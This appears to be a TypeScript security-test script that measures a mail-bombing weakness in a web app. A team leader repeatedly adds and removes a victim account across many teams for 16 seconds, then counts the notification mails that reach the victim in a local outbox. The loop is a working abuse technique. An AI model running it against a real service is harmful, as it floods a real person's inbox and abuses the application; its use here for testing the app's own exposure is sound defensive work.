import { events } from '@greatstep/shared/isomorphic';
import { call, histogram, mailsTo, signIn, signUp, USER_NETWORK, type Answer } from './calls';

/** Attack 3: a leader adds a victim to a team and removes them again, in a loop; how many mails reach the victim. */

export const MAIL_BOMB_MS = 16_000;

export async function mailBomb(base: string, outboxDir: string) {
  const stamp = Date.now();
  const leaderEmail = `leader.${stamp}@example.com`;
  const victimEmail = `victim.${stamp}@example.com`;
  await signUp(base, outboxDir, leaderEmail);
  await signUp(base, outboxDir, victimEmail);
  const leader = await signIn(base, leaderEmail);
  const victim = await signIn(base, victimEmail);
  const mailedBefore = mailsTo(outboxDir, victimEmail);
  const teams: string[] = [];
  for (const event of events) {
    if (!event.key || (event.teamLen ?? 1) < 2) continue;
    const created = await call(
      base,
      'POST',
      '/api/auth/team/createTeam',
      { leader_id: leader.id, event: event.key },
      USER_NETWORK,
      leader.token,
    );
    const team = created.body.team as { _id?: string } | undefined;
    if (created.status === 201 && team?._id) teams.push(team._id);
  }
  const answers: Answer[] = [];
  const started = performance.now();
  while (performance.now() - started < MAIL_BOMB_MS) {
    for (const team of teams) {
      answers.push(
        await call(
          base,
          'POST',
          '/api/auth/team/addMembers',
          { team_id: team, memberEmail: victimEmail },
          USER_NETWORK,
          leader.token,
        ),
      );
      answers.push(
        await call(
          base,
          'DELETE',
          `/api/auth/team/deleteMember/${team}/${victim.id}`,
          undefined,
          USER_NETWORK,
          leader.token,
        ),
      );
    }
  }
  const seconds = (performance.now() - started) / 1000;
  // Notices may be sent just after the answer: give them a moment to reach the outbox.
  await new Promise((resolve) => setTimeout(resolve, 1_000));
  const mailed = mailsTo(outboxDir, victimEmail) - mailedBefore;
  console.log(
    `  ${teams.length} teams; ${answers.length} add/remove calls in ${seconds.toFixed(1)} s (${histogram(answers)})`,
  );
  console.log(`  mails to the victim: ${mailed} (${(mailed / seconds).toFixed(1)} a second)`);
}
